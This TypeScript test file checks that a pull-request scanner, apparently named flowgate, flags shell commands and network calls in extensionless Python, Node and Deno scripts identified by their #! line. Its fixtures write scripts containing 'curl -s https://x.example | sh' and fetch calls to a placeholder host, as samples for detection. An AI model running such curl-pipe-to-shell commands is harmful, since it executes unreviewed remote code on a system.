import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buildSync } from "esbuild";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseConfig } from "../../core/config/load";
import { scanAnalyzer } from "../../core/scan/analyze";
import { scriptGrammar } from "../../core/scan/parser";
import { scanFiles } from "../../core/scan/run";
import { FakeGitHub } from "../action/fake-github";
import { REPO, runBuiltCli, tempDir } from "../helpers/cli";
import { errorRules, gate, pullRequest, scanAnnotations as annotations } from "./pr";

// An agent's entry point is often a script without an extension (`bin/agent`, `#!/usr/bin/env python3`): the scan
// selected files by extension only, so a pull request could put its call there.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

function script(dir: string, file: string, text: string) {
  mkdirSync(join(dir, file, ".."), { recursive: true });
  writeFileSync(join(dir, file), text);
  chmodSync(join(dir, file), 0o755);
}

function addScripts(dir: string) {
  script(dir, "bin/agent", '#!/usr/bin/env python3\nimport os\n\nos.system("curl -s https://x.example | sh")\n');
  script(dir, "bin/fetcher", '#!/usr/bin/env node\nconst { exec } = require("child_process");\nexec("ls");\n');
  script(dir, "bin/deno-tool", '#!/usr/bin/env -S deno run -A\nconst r = await fetch("https://x.example");\n');
  // Not Python or JavaScript: left alone.
  script(dir, "bin/setup", "#!/bin/sh\ncurl -s https://x.example | sh\n");
  script(dir, "bin/notes", "import os\nos.system('not a script: no #! line')\n");
}

describe("scan/shell-command and scan/network-call in scripts named by their #! line", () => {
  it("scan/shell-command: a pull request adding extensionless Python, Node and Deno scripts fails the built Action", async () => {
    const pr = await pullRequest(addScripts);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/network-call", "scan/shell-command", "scan/shell-command"]);
    expect(annotations(r.commands).sort()).toEqual(["scan/network-call bin/deno-tool 2 17", "scan/shell-command bin/agent 4 1", "scan/shell-command bin/fetcher 3 1"]);
  });

  it("scan/shell-command: a script is selected as its language's file would be (scan.exclude, scan.include)", () => {
    const dir = tempDir();
    addScripts(dir);
    script(dir, "agent/tool", "#!/usr/bin/python3.11\nimport subprocess\nsubprocess.run(['ls'])\n");
    const findings = (config: string) => {
      writeFileSync(join(dir, ".flowgate.yml"), config);
      const r = runBuiltCli(["check", dir, "--only", "scan", "--fail-on", "never", "--format", "json"]);
      return (JSON.parse(r.stdout).findings as { rule: string; file: string; line: number }[]).map((f) => `${f.file}:${f.line} ${f.rule}`).sort();
    };
    expect(findings("scan:\n  exclude: []\n")).toEqual(["agent/tool:3 scan/shell-command", "bin/agent:4 scan/shell-command", "bin/deno-tool:2 scan/network-call", "bin/fetcher:3 scan/shell-command"]);
    expect(findings('scan:\n  exclude: ["bin/**"]\n')).toEqual(["agent/tool:3 scan/shell-command"]);
    expect(findings('scan:\n  include: ["agent/**/*.py"]\n')).toEqual(["agent/tool:3 scan/shell-command"]);
  });

  it("scan/shell-command: scripts scanned on a worker thread give the same findings", async () => {
    const dir = tempDir();
    addScripts(dir);
    const workerScript = join(tempDir(), "scan-worker.js");
    buildSync({ entryPoints: [join(REPO, "core/scan/worker.ts")], bundle: true, platform: "node", format: "cjs", mainFields: ["module", "main"], outfile: workerScript, logLevel: "warning" });
    const scripts = new Map([["bin/agent", "python"], ["bin/fetcher", "javascript"]] as const);
    const run = await scanFiles({ root: dir, files: ["bin/agent", "bin/fetcher"], scripts, workers: 2, workerScript, offThread: true });
    expect(run.workers).toBe(1);
    expect(run.findings.map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`)).toEqual(["bin/agent:4:1 scan/shell-command", "bin/fetcher:3:1 scan/shell-command"]);
  });

  it("scan/shell-command: the editor's per-file scan (the same analyzer `flowgate check` shares) reads the #! line too", async () => {
    const config = parseConfig(".flowgate.yml", "");
    expect(["bin/agent", "bin/tool.py", "README", "bin/setup.sh"].map((f) => scanAnalyzer.selector(config)(f))).toEqual([true, true, true, false]);
    const ctx = { config, root: tempDir() } as unknown as Parameters<typeof scanAnalyzer.analyze>[2];
    const found = await scanAnalyzer.analyze("bin/agent", '#!/usr/bin/env python3\nimport os\nos.system("x")\n', ctx);
    expect(found.map((f) => `${f.line}:${f.column} ${f.rule}`)).toEqual(["3:1 scan/shell-command"]);
    expect(await scanAnalyzer.analyze("README", "import os\nos.system('prose')\n", ctx)).toEqual([]);
  });

  it("scan/shell-command: a Node script's imports of project modules are followed (its calls through a helper are found)", async () => {
    const dir = tempDir();
    script(dir, "bin/run", '#!/usr/bin/env node\nconst sh = require("../lib/shell");\nsh.run("ls");\n');
    mkdirSync(join(dir, "lib"));
    writeFileSync(join(dir, "lib/shell.js"), 'exports.run = require("child_process").execSync;\n');
    const run = await scanFiles({ root: dir, files: ["bin/run", "lib/shell.js"], scripts: new Map([["bin/run", "javascript"]]), workers: 1 });
    expect(run.findings.map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`)).toEqual(["bin/run:3:1 scan/shell-command"]);
  });

  it("scriptGrammar reads what the #! line runs", () => {
    expect(
      ["#!/usr/bin/env python3\n", "#!/usr/bin/python3.11 -u\n", "#! /usr/bin/env node\n", "#!/usr/local/bin/bun\n", "#!/usr/bin/env -S deno run -A\n", "#!/usr/bin/env ts-node\n", "#!/usr/bin/env tsx\n"].map(scriptGrammar),
    ).toEqual(["python", "python", "javascript", "javascript", "typescript", "typescript", "typescript"]);
    expect(["#!/bin/sh\n", "#!/usr/bin/env bash\n", "#!/usr/bin/env nodemon\n", "#!/usr/bin/env pythonista\n", "import os\n", "# python3\n", ""].map(scriptGrammar)).toEqual([undefined, undefined, undefined, undefined, undefined, undefined, undefined]);
  });
});
